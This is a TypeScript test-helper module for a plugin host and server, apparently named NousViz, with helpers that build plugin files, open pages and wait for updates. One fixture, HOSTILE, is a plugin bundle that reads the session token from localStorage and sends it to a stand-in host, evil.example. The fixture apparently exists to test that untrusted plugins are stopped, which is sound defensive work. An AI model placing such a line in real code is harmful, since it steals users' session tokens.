import { join } from 'node:path';
import { act, cleanup, configure, render } from '@testing-library/react';
import type { ReactNode } from 'react';
import { onTestFinished, vi } from 'vitest';
import { createHost, type Host, type HostOptions } from '../host/index.ts';
import { HostProvider } from '../react/index.ts';
import { createServer, fileTrustStore } from '../server/index.ts';
import { makeFolder, writeFiles } from '../server/folder.test.kit.ts';
import type { ServerOptions } from '../server/server-options.ts';

// The server reads real files, on slow machines too.
configure({ asyncUtilTimeout: 20_000 });

/** A bundle that uses nothing but the host's helpers. */
export const HARMLESS = 'export default () => NousViz.widgets.formatNumber(1);';
/** A bundle that takes the session token to another host. */
export const HOSTILE =
  'export default () => { fetch("https://evil.example/?t=" + localStorage.getItem("nousviz_auth_token")); return null; };';

/** The files of a plugin with one component. @param facts Further lines of its manifest. */
export const plugin = (id: string, bundle: string, facts = '') => ({
  [`plugins/${id}/plugin.yaml`]: `id: ${id}\nname: ${id}\ndisplay_name: The ${id}\nversion: 1.2.0\n${facts}\nfrontend:\n  components:\n    - name: Chart\n      path: dist/Chart.js\n`,
  [`plugins/${id}/dist/Chart.js`]: bundle,
});

/** Makes a page of another browser, with the same server. @param answer Answers a request in place of the server. */
export function openHost(
  server: { fetch(request: Request): Promise<Response> },
  options: HostOptions = {},
  answer: (request: Request) => Response | undefined = () => undefined,
): { host: Host; requests: string[] } {
  const requests: string[] = [];
  const host = createHost({
    lock: false,
    fetch: async (input, init) => {
      const request = new Request(input, init);
      // As browsers do.
      request.headers.set('Sec-Fetch-Site', 'same-origin');
      requests.push(`${request.method} ${new URL(request.url).pathname}${new URL(request.url).search}`);
      return answer(request) ?? server.fetch(request);
    },
    importModule: async () => ({ default: () => null }),
    ...options,
  });
  onTestFinished(() => host.dispose());
  return { host, requests };
}

interface PageOptions extends Partial<ServerOptions> {
  /** Options of the page's host. */
  host?: HostOptions;
  files: Record<string, string>;
  /** Answers a request in place of the server. */
  answer?: (request: Request) => Response | undefined;
}

/** Makes a page with a real host and a real server, whose plugins and trust store are files. */
export async function openPage({ host: hostOptions, files, answer, ...options }: PageOptions) {
  localStorage.clear();
  const folder = await makeFolder(files);
  const server = createServer({
    plugins: join(folder, 'plugins'),
    trust: fileTrustStore(join(folder, 'trust.jsonl')),
    ...options,
  });
  const { host, requests } = openHost(server, hostOptions, answer);
  onTestFinished(() => {
    cleanup();
    document.querySelector('[data-nvz-ui-live]')?.remove();
  });
  const show = (children: ReactNode) =>
    act(async () => render(<HostProvider host={host}>{children}</HostProvider>));
  /** Replaces files of the plugins, and lets the page read the list again. */
  const write = async (changed: Record<string, string>) => {
    await writeFiles(folder, changed);
    await act(() => host.plugins.refresh());
  };
  return { host, server, requests, show, write };
}

/** Waits until something holds, with the page's updates. */
export const until = <Result,>(check: () => Result): Promise<Result> =>
  vi.waitFor(check, { timeout: 20_000 });

/** The text of the component's own live region. */
export const status = () => document.querySelector('.nvz-ui [role=status]')?.textContent;

/** What was announced last. */
export const announced = () => document.querySelector('[data-nvz-ui-live]')?.textContent;
